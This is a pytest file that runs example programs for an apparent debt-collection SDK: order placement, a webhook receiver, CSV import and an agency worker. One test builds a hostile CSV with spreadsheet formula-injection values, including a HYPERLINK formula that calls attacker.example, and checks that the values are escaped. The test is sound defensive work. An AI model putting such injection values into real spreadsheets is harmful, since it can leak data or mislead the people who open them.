"""The programs in examples/ against a real hub."""

from __future__ import annotations

import asyncio
import csv
import datetime as dt
import json
import os
import subprocess
import sys
import threading
import time
import uuid
from pathlib import Path
from typing import Any

import evenly
import httpx
import pytest
import uvicorn
from conftest import REPO_ROOT, Credentials, Hub, Parties, free_port, new_account
from evenly_webhooks import generate_secret, headers
from sandbox_hub import SandboxWorld, sandbox_world
from starlette.testclient import TestClient

EXAMPLES = REPO_ROOT / "examples"
sys.path.insert(0, str(EXAMPLES))

import agency_worker  # noqa: E402
import checkout_placement  # noqa: E402
import webhook_receiver  # noqa: E402

__all__ = ["sandbox_world"]  # the fixture, used by name


def factory(hub: Hub, creds: Credentials) -> Any:
    return lambda: evenly.AsyncEvenly(creds.client_id, creds.client_secret, base_url=hub.url)


def test_checkout_places_orders_thirty_days_overdue_once(parties: Parties) -> None:
    app = checkout_placement.create_app(factory(parties.hub, parties.creditor))
    today = dt.date(2026, 3, 31)
    tag = uuid.uuid4().hex[:8]
    orders = {
        f"ORD-{tag}-old": today - dt.timedelta(days=45),
        f"ORD-{tag}-new": today - dt.timedelta(days=10),
        f"ORD-{tag}-paid": today - dt.timedelta(days=60),
        f"ORD-{tag}-bad": today - dt.timedelta(days=40),
    }
    with TestClient(app) as http:
        for order_id, due in orders.items():
            customer = {"id": f"C-{order_id}", "name": "Ada Lind", "country": "SE"}
            if order_id.endswith("bad"):
                customer["email"] = "nope"
            body = {
                "id": order_id,
                "customer": customer,
                "amount_minor": 50000,
                "currency": "SEK",
                "due": due.isoformat(),
            }
            assert http.post("/orders", json=body).status_code == 201
        http.post(f"/orders/ORD-{tag}-paid/payments", json={"amount_minor": 50000})
        http.post(f"/orders/ORD-{tag}-old/payments", json={"amount_minor": 20000})

        result = http.post(f"/jobs/place-overdue?today={today}").json()
        assert [p["order"] for p in result["placed"]] == [f"ORD-{tag}-old"]
        assert result["refused"] == [
            {
                "order": f"ORD-{tag}-bad",
                "code": "INVALID_EMAIL",
                "field": ["customer", "email"],
            }
        ]
        again = http.post(f"/jobs/place-overdue?today={today}").json()
        assert again["placed"] == []

    with evenly.Evenly(
        parties.creditor.client_id, parties.creditor.client_secret, base_url=parties.hub.url
    ) as client:
        account = client.accounts.get(reference=f"ORD-{tag}-old")
        assert account.balance.amount_minor == 30000
        assert account.id == result["placed"][0]["account"]


class Server:
    """An ASGI app served by uvicorn in a thread, on a fixed port (so it can restart)."""

    def __init__(self, app: Any, port: int) -> None:
        self.server = uvicorn.Server(
            uvicorn.Config(app, host="127.0.0.1", port=port, log_level="warning", lifespan="on")
        )
        self.thread = threading.Thread(target=self.server.run, daemon=True)

    def __enter__(self) -> Server:
        self.thread.start()
        deadline = time.monotonic() + 20
        while not self.server.started:
            assert time.monotonic() < deadline and self.thread.is_alive(), "did not start"
            time.sleep(0.02)
        return self

    def __exit__(self, *exc: object) -> None:
        self.server.should_exit = True
        self.thread.join(10)


def wait_until(predicate: Any, timeout: float = 30.0) -> None:
    deadline = time.monotonic() + timeout
    while not predicate():
        assert time.monotonic() < deadline, "timed out"
        time.sleep(0.1)


@pytest.fixture
def fresh_creditor(parties: Parties) -> Credentials:
    """A creditor of its own, so its feed holds only this test's events."""
    creditor = parties.hub.organization("creditor")
    parties.hub.route(creditor, parties.agency)
    return creditor


def test_webhook_receiver_dedupes_and_catches_up_after_downtime(
    parties: Parties, fresh_creditor: Credentials, tmp_path: Path
) -> None:
    hub = parties.hub
    port = free_port()
    sdk = evenly.Evenly(fresh_creditor.client_id, fresh_creditor.client_secret, base_url=hub.url)
    endpoint = sdk.webhook_endpoints.create(
        f"http://127.0.0.1:{port}/webhooks", event_types=["account.placed"]
    )
    inbox = webhook_receiver.Inbox(tmp_path / "inbox.db")
    app = webhook_receiver.create_app(endpoint.secret, inbox, factory(hub, fresh_creditor))

    with Server(app, port):
        first = sdk.accounts.place(**new_account()).account
        wait_until(lambda: len(inbox.processed()) == 1)
        assert inbox.processed()[0][2:] == (first.id, "webhook")
        # A forged delivery is refused.
        forged = httpx.post(f"http://127.0.0.1:{port}/webhooks", content=b"{}", headers={})
        assert forged.status_code == 400

    missed = sdk.accounts.place(**new_account()).account  # the receiver is down
    with Server(app, port):
        # Caught up from the feed at start, before any redelivery.
        by_account = {row[2]: row for row in inbox.processed()}
        assert by_account[missed.id][3] == "feed"
        # The hub redelivers the missed event later: it is deduped, not handled twice.
        wait_until(
            lambda: any(
                d.status == evenly.DeliveryStatus.DELIVERED and d.event_type == "account.placed"
                for d in sdk.webhook_endpoints.deliveries(endpoint.endpoint.id)
                if d.attempts and len(d.attempts) > 1
            ),
            timeout=60,
        )
    rows = inbox.processed()
    assert len(rows) == len({row[0] for row in rows})
    assert {row[2] for row in rows} == {first.id, missed.id}
    sdk.close()


def test_csv_import_reports_refused_rows_and_is_resumable(parties: Parties, tmp_path: Path) -> None:
    path = tmp_path / "overdue.csv"
    rows = []
    for i in range(6):
        a = new_account()
        rows.append(
            {
                "invoice_no": a["reference"],
                "customer_no": a["customer"]["reference"],
                "full_name": "Ada Lind",
                "email": "ada@example.com" if i != 2 else "not-an-email",
                "phone": "",
                "country": "SE",
                "invoiced": "10000",
                "outstanding": "9000",
                "currency": "SEK",
                "due": "2026-02-01",
            }
        )
    with path.open("w", newline="") as f:
        writer = csv.DictWriter(f, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    env = {**os.environ, **parties.hub.client_env(parties.creditor)}
    argv = [sys.executable, str(EXAMPLES / "csv_import.py"), str(path)]
    done = subprocess.run(argv, env=env, capture_output=True, text=True, timeout=120)
    assert done.returncode == 1, done.stderr
    assert "5 placed (0 were already), 1 refused" in done.stdout
    rejected = list(csv.DictReader(path.with_suffix(".rejected.csv").open()))
    assert rejected == [
        {
            "row": "4",
            "invoice_no": rows[2]["invoice_no"],
            "code": "INVALID_EMAIL",
            "field": "customer.email",
            "message": rejected[0]["message"],
        }
    ]
    again = subprocess.run(argv, env=env, capture_output=True, text=True, timeout=120)
    assert "5 placed (5 were already), 1 refused" in again.stdout


def test_csv_import_writes_refused_rows_a_spreadsheet_shows_as_text(
    parties: Parties, tmp_path: Path
) -> None:
    path = tmp_path / "hostile.csv"
    tag = uuid.uuid4().hex[:8]
    references = [
        f'=HYPERLINK("https://attacker.example/?{tag}","open")',
        f"+{tag}",
        f"-{tag}",
        f"@SUM(1+1)-{tag}",
        f"\t=1+1-{tag}",
        f"\r=1+1-{tag}",
        f"INV-{tag}",
    ]
    with path.open("w", newline="") as f:
        writer = csv.writer(f)
        writer.writerow(
            [
                *("invoice_no", "customer_no", "full_name", "email", "phone"),
                *("country", "invoiced", "outstanding", "currency", "due"),
            ]
        )
        for i, reference in enumerate(references):
            customer = (f"=CUST-{tag}-{i}", "Ada Lind", "=not-an-email", "")
            writer.writerow([reference, *customer, "SE", "10000", "9000", "SEK", "2026-02-01"])
    env = {**os.environ, **parties.hub.client_env(parties.creditor)}
    argv = [sys.executable, str(EXAMPLES / "csv_import.py"), str(path)]
    done = subprocess.run(argv, env=env, capture_output=True, text=True, timeout=120)
    assert done.returncode == 1, done.stderr
    assert "0 placed (0 were already), 7 refused" in done.stdout
    with path.with_suffix(".rejected.csv").open(newline="") as f:
        rejected = list(csv.DictReader(f))
    assert [row["invoice_no"] for row in rejected] == ["'" + r for r in references[:-1]] + [
        references[-1]
    ]
    assert {row["code"] for row in rejected} == {"INVALID_EMAIL"}
    for row in rejected:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row


async def test_examples_are_importable_without_side_effects() -> None:
    await asyncio.sleep(0)
    assert callable(checkout_placement.create_app) and callable(webhook_receiver.create_app)


def test_agency_worker_acknowledges_assignments_and_records_payments_once(
    parties: Parties, tmp_path: Path
) -> None:
    hub = parties.hub
    creditor, agency = hub.organization("creditor"), hub.organization("agency")
    hub.route(creditor, agency)
    with (
        evenly.Evenly(creditor.client_id, creditor.client_secret, base_url=hub.url) as ours,
        evenly.Evenly(agency.client_id, agency.client_secret, base_url=hub.url) as theirs,
    ):
        first = [ours.accounts.place(**new_account()).account for _ in range(2)]
        worker = agency_worker.AgencyWorker(theirs, tmp_path / "state.json")
        taken = worker.sync_assignments()
        assert [a.id for a in taken] == [a.id for a in first]
        assert all(a.status is evenly.AccountStatus.ACKNOWLEDGED for a in taken)
        assert taken[0].agency_reference and taken[0].agency_reference.startswith("CASE-")
        assert worker.sync_assignments() == []  # resumes after the last event it handled

        later = ours.accounts.place(**new_account()).account
        assert [a.id for a in worker.sync_assignments()] == [later.id]

        payment = agency_worker.ProcessorPayment(
            transaction_id=f"txn-{uuid.uuid4().hex[:8]}",
            account_id=first[0].id,
            amount_minor=25000,
            currency="SEK",
            method="CARD",
            received_at=dt.datetime.now(dt.UTC),
        )
        worker.record_payments([payment])
        [again] = worker.record_payments([payment])  # the processor sent it twice
        assert again.account.balance.amount_minor == 75000
        assert again.payment.channel is evenly.PaymentChannel.PORTAL
        assert ours.accounts.get(first[0].id).balance.amount_minor == 75000


def serve_example(
    name: str, port: int, env: dict[str, str], tmp_path: Path, python: str = sys.executable
) -> subprocess.Popen[bytes]:
    """``python examples/<name> --port <port>`` as a user runs it, once it answers HTTP."""
    log = (tmp_path / f"{name}.log").open("wb")
    process = subprocess.Popen(
        [python, str(EXAMPLES / name), "--port", str(port)],
        env=env,
        cwd=tmp_path,
        stdout=log,
        stderr=subprocess.STDOUT,
    )
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline:
        assert process.poll() is None, (tmp_path / f"{name}.log").read_text()
        try:
            httpx.get(f"http://127.0.0.1:{port}/", timeout=1)
            return process
        except httpx.HTTPError:
            time.sleep(0.1)
    process.kill()
    raise AssertionError(f"{name} did not serve on {port}")


def test_example_servers_serve_on_the_port_given(parties: Parties, tmp_path: Path) -> None:
    env = {**os.environ, **parties.hub.client_env(parties.creditor)}
    secret = generate_secret()
    receiver_port, checkout_port = free_port(), free_port()
    receiver = serve_example(
        "webhook_receiver.py", receiver_port, {**env, "WEBHOOK_SECRET": secret}, tmp_path
    )
    checkout = serve_example("checkout_placement.py", checkout_port, env, tmp_path)
    try:
        body = b'{"type":"webhook.test","timestamp":"2026-01-01T00:00:00Z","data":{}}'
        signed = headers(body, msg_id="evt_port", timestamp=int(time.time()), secrets=[secret])
        url = f"http://127.0.0.1:{receiver_port}/webhooks"
        assert httpx.post(url, content=body, headers=signed).status_code == 204
        assert httpx.post(url, content=body, headers={}).status_code == 400
        order = {"id": f"ORD-{uuid.uuid4().hex[:8]}", "customer": {}, "amount_minor": 1}
        order.update(currency="SEK", due="2026-01-31")
        created = httpx.post(f"http://127.0.0.1:{checkout_port}/orders", json=order)
        assert created.status_code == 201 and created.json() == {"id": order["id"]}
    finally:
        for process in (receiver, checkout):
            process.terminate()
            process.wait(15)
    assert (tmp_path / "webhook-inbox.db").exists()  # the receiver's inbox, in its directory


def test_example_servers_document_their_port_option() -> None:
    for name, default in (("webhook_receiver.py", "4242"), ("checkout_placement.py", "4243")):
        done = subprocess.run(
            [sys.executable, str(EXAMPLES / name), "--help"],
            capture_output=True,
            text=True,
            timeout=60,
        )
        assert done.returncode == 0, done.stderr
        assert "--port" in done.stdout and default in done.stdout


def run_agency_worker(
    hub: Hub, agency: Credentials, state: Path
) -> subprocess.CompletedProcess[str]:
    argv = [sys.executable, str(EXAMPLES / "agency_worker.py"), "--once", "--state", str(state)]
    env = {**os.environ, **hub.client_env(agency)}
    return subprocess.run(argv, env=env, capture_output=True, text=True, timeout=120)


def test_agency_worker_skips_accounts_no_longer_placed_and_moves_on(
    parties: Parties, tmp_path: Path
) -> None:
    hub = parties.hub
    creditor, agency = hub.organization("creditor"), hub.organization("agency")
    hub.route(creditor, agency)
    state = tmp_path / "agency-worker.json"
    with (
        evenly.Evenly(creditor.client_id, creditor.client_secret, base_url=hub.url) as ours,
        evenly.Evenly(agency.client_id, agency.client_secret, base_url=hub.url) as theirs,
    ):
        recalled, acknowledged, waiting = (
            ours.accounts.place(**new_account()).account for _ in range(3)
        )
        ours.accounts.recall(recalled.id, reason="paid us directly")
        theirs.agency.acknowledge(acknowledged.id, agency_reference="BY-HAND")

        first = run_agency_worker(hub, agency, state)
        assert first.returncode == 0, first.stderr
        assert f"skipped {recalled.id} (" in first.stderr
        assert f"skipped {acknowledged.id} (INVALID_STATE_TRANSITION)" in first.stderr
        assert "took on 1 account(s)" in first.stderr
        assignments = list(theirs.events.list(types=["account.assigned"]))
        assert [e.data["account"]["id"] for e in assignments] == [
            recalled.id,
            acknowledged.id,
            waiting.id,
        ]
        assert json.loads(state.read_text()) == {"after": assignments[-1].id}
        assert theirs.accounts.get(waiting.id).status is evenly.AccountStatus.ACKNOWLEDGED
        assert ours.accounts.get(recalled.id).status is evenly.AccountStatus.RECALLED
        assert theirs.accounts.get(acknowledged.id).agency_reference == "BY-HAND"

        later = ours.accounts.place(**new_account()).account
        second = run_agency_worker(hub, agency, state)  # the restart goes on from there
        assert second.returncode == 0, second.stderr
        assert "skipped" not in second.stderr and "took on 1 account(s)" in second.stderr
        [newest] = theirs.events.list(after=assignments[-1].id, types=["account.assigned"])
        assert newest.data["account"]["id"] == later.id
        assert json.loads(state.read_text()) == {"after": newest.id}
        assert theirs.accounts.get(later.id).status is evenly.AccountStatus.ACKNOWLEDGED


def test_the_ci_sandbox_example_passes_and_leaves_nothing_behind(
    sandbox_world: SandboxWorld, tmp_path: Path
) -> None:
    """examples/ci_sandbox_test.py, run by pytest as a creditor's CI would, against a real
    server and worker process with a simulated agency; then the run is gone."""
    creds = sandbox_world.creditor
    env = {
        **sandbox_world.hub.client_env(creds),
        "GITHUB_RUN_ID": f"examples-{uuid.uuid4().hex[:8]}",
        "EVENLY_SANDBOX_TIMEOUT": "60",
    }
    argv = [sys.executable, "-m", "pytest", "-q", "-p", "no:cacheprovider", "ci_sandbox_test.py"]
    argv += ["--rootdir", str(tmp_path)]
    done = subprocess.run(argv, cwd=EXAMPLES, env=env, capture_output=True, text=True, timeout=180)
    assert done.returncode == 0, done.stdout + done.stderr
    assert "1 passed" in done.stdout, done.stdout
    with evenly.Evenly(creds.client_id, creds.client_secret, base_url=sandbox_world.hub.url) as c:
        assert list(c.accounts.list()) == []
        assert [e.type for e in c.events.list()] == []
    # Without credentials the copied test skips instead of failing.
    bare = {k: v for k, v in env.items() if not k.startswith("EVENLY_")}
    skipped = subprocess.run(
        argv, cwd=EXAMPLES, env=bare, capture_output=True, text=True, timeout=180
    )
    assert skipped.returncode == 0 and "1 skipped" in skipped.stdout, skipped.stdout
